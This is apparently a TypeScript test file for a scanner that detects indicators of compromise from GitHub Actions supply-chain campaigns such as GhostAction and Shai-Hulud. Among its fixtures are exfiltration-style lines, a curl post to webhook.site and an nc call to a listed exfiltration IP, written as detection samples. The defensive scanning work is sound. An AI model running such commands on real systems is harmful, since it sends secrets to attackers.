import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { UserError } from '../../src/errors.js';
import {
  defaultIocs,
  globMatches,
  hostsIn,
  iocFindings,
  loadIocFile,
  matchDestinations,
  matchHostsInFile,
  matchRepository,
  matchWorkflowFile,
  parseIocData,
} from '../../src/scan/ioc.js';
import {
  BENIGN_DISCUSSION,
  CI,
  GHOSTACTION_HOST,
  SHA1HULUD_DISCUSSION,
  SHA1HULUD_FORMATTER,
  SHAI_HULUD,
  ghostAction,
} from './workflows.js';

const raw = JSON.parse(readFileSync('data/ioc.json', 'utf8')) as Record<string, unknown>;

test('data/ioc.json satisfies its JSON Schema and the loader, and every entry cites a source and date', () => {
  const schema = JSON.parse(readFileSync('data/ioc.schema.json', 'utf8')) as object;
  const validate = new Ajv2020({ allErrors: true }).compile(schema);
  assert.equal(validate(raw), true, JSON.stringify(validate.errors));
  const iocs = defaultIocs();
  const all = [...iocs.workflowFiles, ...iocs.domains, ...iocs.repositories];
  assert.ok(all.length >= 10);
  for (const e of all) {
    assert.match(e.source, /^https:\/\//, e.id);
    assert.match(e.date, /^\d{4}-\d{2}-\d{2}$/, e.id);
  }
  const campaigns = new Set(all.map((e) => e.campaign));
  for (const c of [
    'GhostAction',
    'Shai-Hulud',
    'Shai-Hulud 2.0',
    'tj-actions/changed-files',
    's1ngularity',
  ]) {
    assert.ok(campaigns.has(c), c);
  }
});

test('the loader rejects bad entries with one line naming the entry and field, like the schema', () => {
  const schema = JSON.parse(readFileSync('data/ioc.schema.json', 'utf8')) as object;
  const validate = new Ajv2020().compile(schema);
  const domains = raw.domains as Record<string, unknown>[];
  const bad: [unknown, RegExp][] = [
    [{ ...raw, version: 2 }, /version: expected 1/],
    [{ ...raw, extra: 1 }, /extra: unknown field/],
    [{ ...raw, domains: [{ ...domains[0], source: 'http://x' }] }, /domains\[0\]\.source: expected an https/],
    [{ ...raw, domains: [{ ...domains[0], date: 'yesterday' }] }, /domains\[0\]\.date: expected a date/],
    [{ ...raw, domains: [{ ...domains[0], host: 'a b' }] }, /domains\[0\]\.host/],
    [{ ...raw, domains: [{ ...domains[0], severity: 'fatal' }] }, /domains\[0\]\.severity/],
    [
      { ...raw, domains: [domains[0], domains[0]] },
      /domains\[1\]\.id: "ghostaction-exfil-host" is used twice/,
    ],
    [{ ...raw, workflowFiles: [{ ...(raw.workflowFiles as object[])[0], glob: 'a/b.yml' }] }, /glob: a name/],
  ];
  for (const [data, message] of bad) {
    assert.throws(
      () => parseIocData(data, 'iocs.json'),
      (e: unknown) =>
        e instanceof UserError && message.test(e.message) && e.message.startsWith('iocs.json: '),
    );
  }
  // Where the schema can express the rule, it agrees (duplicate ids are a loader-only check).
  for (const [data] of [...bad.slice(0, 6), ...bad.slice(7)]) assert.equal(validate(data), false);
});

test('an indicator file given by the user is loaded and validated', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'ioc-'));
  const good = join(dir, 'good.json');
  writeFileSync(good, JSON.stringify({ ...raw, repositories: [] }));
  assert.equal((await loadIocFile(good)).repositories.length, 0);
  const broken = join(dir, 'broken.json');
  writeFileSync(broken, '{"version": 1,');
  await assert.rejects(loadIocFile(broken), /broken\.json: not valid JSON/);
  await assert.rejects(loadIocFile(join(dir, 'missing.json')), /missing\.json: cannot be read/);
});

test('workflow file names match only with their conditions', () => {
  const iocs = defaultIocs();
  const ids = (path: string, text: string) => matchWorkflowFile(iocs, path, text).map((m) => m.indicator);
  assert.deepEqual(ids('.github/workflows/shai-hulud-workflow.yml', SHAI_HULUD), ['shai-hulud-workflow']);
  assert.deepEqual(ids('.github/workflows/discussion.yaml', SHA1HULUD_DISCUSSION), [
    'sha1-hulud-discussion-backdoor',
  ]);
  assert.deepEqual(ids('.github/workflows/discussion.yml', SHA1HULUD_DISCUSSION), [
    'sha1-hulud-discussion-backdoor',
  ]);
  assert.deepEqual(ids('.github/workflows/discussion.yaml', BENIGN_DISCUSSION), []);
  assert.deepEqual(ids('.github/workflows/formatter_123456789.yml', SHA1HULUD_FORMATTER), [
    'sha1-hulud-formatter',
  ]);
  assert.deepEqual(ids('.github/workflows/formatter_check.yml', CI), []);
  assert.deepEqual(ids('.github/workflows/ci.yml', CI), []);
});

test('known exfiltration hosts are found in scripts with their line; the most specific indicator wins', () => {
  const iocs = defaultIocs();
  const ghost = matchHostsInFile(iocs, '.github/workflows/sec.yml', ghostAction(['A', 'B']));
  assert.equal(ghost.length, 1);
  assert.equal(ghost[0]?.indicator, 'ghostaction-exfil-host');
  assert.equal(ghost[0]?.matched, GHOSTACTION_HOST);
  assert.equal(ghost[0]?.line, 11);
  const shai = matchHostsInFile(iocs, '.github/workflows/shai-hulud-workflow.yml', SHAI_HULUD);
  assert.deepEqual(
    shai.map((m) => [m.indicator, m.line]),
    [['shai-hulud-webhook', 8]],
  );
  const other = matchHostsInFile(
    iocs,
    'w.yml',
    'on: push\njobs:\n  a:\n    steps:\n      - run: curl https://webhook.site/abc -d x\n',
  );
  assert.deepEqual(
    other.map((m) => [m.indicator, m.severity]),
    [['webhook-site', 'warning']],
  );
  const plesk = matchHostsInFile(iocs, 'w.yml', 'env:\n  U: other.1-2-3-4.plesk.page\n');
  assert.deepEqual(
    plesk.map((m) => m.indicator),
    ['plesk-preview-host'],
  );
  assert.deepEqual(matchHostsInFile(iocs, 'w.yml', CI), []);
});

test('host candidates come from URLs, bare hosts and user@host arguments', () => {
  assert.deepEqual(hostsIn('curl -s -d "a=b" https://Example.com:8443/x/y?q=1 --next'), [
    { host: 'example.com', path: '/x/y' },
  ]);
  assert.deepEqual(
    hostsIn('ssh git@deploy.example.org ; nc 45.139.104.115 443 ; --url=api.example.com/v1').map(
      (h) => h.host,
    ),
    ['deploy.example.org', '45.139.104.115', 'api.example.com'],
  );
  assert.deepEqual(hostsIn('echo hello; ls -la; ./run.sh'), []);
});

test('repository names, globs and findings', () => {
  const iocs = defaultIocs();
  assert.deepEqual(
    matchRepository(iocs, 'acme/s1ngularity-repository-0').map((m) => m.indicator),
    ['s1ngularity-repository'],
  );
  assert.deepEqual(matchRepository(iocs, 'acme/api'), []);
  assert.equal(globMatches('formatter_*.yml', 'FORMATTER_1.yml'), true);
  assert.equal(globMatches('a.yml', 'aXyml'), false);
  const [finding] = iocFindings(matchRepository(iocs, 'acme/Shai-Hulud'));
  assert.equal(finding?.rule, 'ioc-malicious-repository');
  assert.equal(finding?.severity, 'error');
  assert.match(finding?.message ?? '', /acme\/Shai-Hulud matches a known Shai-Hulud indicator/);
  assert.equal(iocFindings(matchRepository(iocs, 'acme/Shai-Hulud'))[0]?.fingerprint, finding?.fingerprint);
});

test('destinations the engine resolved add indicators the text did not show, without repeating a host', () => {
  const iocs = defaultIocs();
  const text = matchHostsInFile(iocs, 'w.yml', SHAI_HULUD);
  const [base] = iocFindings(text);
  assert.ok(base);
  const engine = [
    { ...base, destinations: ['webhook.site'] },
    { ...base, location: { file: 'x.yml', line: 3, column: 1 }, destinations: ['45.139.104.115'] },
  ];
  assert.deepEqual(
    matchDestinations(iocs, engine, text).map((m) => [m.indicator, m.file, m.line]),
    [['ghostaction-exfil-ip', 'x.yml', 3]],
  );
});
